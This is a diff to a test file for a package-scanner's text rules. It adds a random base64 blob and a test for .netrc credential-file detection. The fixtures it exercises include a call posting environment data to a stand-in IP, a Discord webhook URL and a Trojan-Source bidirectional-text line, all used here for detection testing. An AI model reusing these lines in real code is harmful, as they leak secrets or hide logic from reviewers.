@@ -1,5 +1,8 @@
 """Text rules: each family found on the line it sits on, secrets masked, benign text quiet, no suppressions."""
 
+import base64
+import random
+
 from pypi_platform.lib.scanner.text_rules import text_findings
 
 # Built from parts so that this file itself holds no complete secret.
@@ -22,7 +25,7 @@ def test_each_family_is_found_on_its_line():
             "requests.post('http://203.0.113.7:8080/collect', data=env)",
             "urlopen('https://discord.com/api/webhooks/1/abc')",
             "access_level = 'user' # \u202e } \u2066if is_admin\u2069 \u2066 begin admins only",
-            "blob = '" + "QUJD" * 600 + "'",
+            "blob = '" + base64.b64encode(random.Random(7).randbytes(1800)).decode() + "'",
         ]
     )
     assert _found(text) == [
@@ -59,3 +62,10 @@ def test_local_and_private_addresses_are_not_raw_ip_findings_but_the_metadata_se
         ]
     )
     assert _found(text) == [("network.raw-ip-url", 3), ("network.raw-ip-url", 4)]
+
+
+def test_client_configuration_is_its_own_rule_and_arithmetic_is_not_an_encoded_literal():
+    text = "\n".join(
+        ["NETRC_FILES = ('.netrc', '_netrc')", "x = " + "1+" * 1500 + "1", "rule = '" + "-" * 3000 + "'"]
+    )
+    assert _found(text) == [("credentials.client-config", 1)]
